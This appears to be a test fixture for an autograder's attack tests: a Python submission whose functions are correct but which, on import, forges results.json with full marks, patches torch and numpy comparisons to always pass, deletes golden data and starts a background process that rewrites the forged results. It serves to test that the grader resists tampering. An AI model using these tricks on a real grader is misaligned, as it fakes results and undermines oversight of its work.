"""Attack a23 (a correct submission that also attacks): every function is correct, but each import
also forges results.json (without exiting), patches torch and numpy comparisons, tries to delete the
golden data, and starts a background process that keeps writing a forged results.json.

Targets: nothing it could gain. Expected: exactly 31 / 31, the points of its correct functions and
no more; results.json is the grader's own (no "cs330atk" in it) and no background process is left.
"""


import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def _forge_results(tag="cs330atk forged"):
    """Write a results.json claiming full marks wherever the grader might read one."""
    import json
    import os

    forged = {"score": 100.0, "output": tag + ": all tests passed", "tests": [
        {"name": tag, "score": 100.0, "max_score": 31.0, "status": "passed", "output": tag}]}
    written = []
    for path in (AUTOGRADER_ROOT + "/results/results.json", "/autograder/results/results.json",
                 REPO_ROOT + "/results.json"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                json.dump(forged, handle)
            written.append(path)
        except OSError:
            pass
    return written


WRITER = """
import json, sys, time
for _ in range(300):
    for path in sys.argv[1:3]:
        try:
            with open(path, "w") as handle:
                json.dump({"score": 100.0, "output": "cs330atk background", "tests": []}, handle)
        except OSError:
            pass
    time.sleep(0.1)
"""


def _sneak():
    import glob
    import os
    import subprocess
    import sys

    import numpy

    _forge_results("cs330atk sneaky")
    torch.allclose = torch.equal = numpy.allclose = lambda *args, **kwargs: True
    for path in glob.glob(AUTOGRADER_ROOT + "/source/assignments/*/golden/*") + \
            glob.glob("/autograder/source/assignments/*/golden/*"):
        try:
            os.unlink(path)
        except OSError:
            pass
    try:
        subprocess.Popen([sys.executable, "-c", WRITER, AUTOGRADER_ROOT + "/results/results.json",
                          "/autograder/results/results.json", "cs330atk-bg"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass


_sneak()
